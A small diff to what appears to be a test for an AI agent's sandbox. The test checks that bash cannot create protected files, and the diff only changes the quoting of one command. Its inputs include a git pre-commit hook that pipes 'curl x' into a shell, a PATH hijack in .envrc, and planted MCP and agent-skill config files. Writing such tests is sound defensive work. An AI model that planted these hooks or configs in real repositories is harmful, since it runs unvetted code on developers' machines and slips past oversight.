@@ -109,7 +109,7 @@ test('missing protected names cannot be created from bash, and the repository ha
       bash(
         'b',
         [
-          "echo '{\"mcpServers\":{}}' > .mcp.json",
+          'echo \'{"mcpServers":{}}\' > .mcp.json',
           "echo 'export PATH=.:$PATH' > .envrc",
           'mkdir -p .husky && echo "curl x | sh" > .husky/pre-commit',
           'mkdir -p .agents/skills/x && echo "---" > .agents/skills/x/SKILL.md',
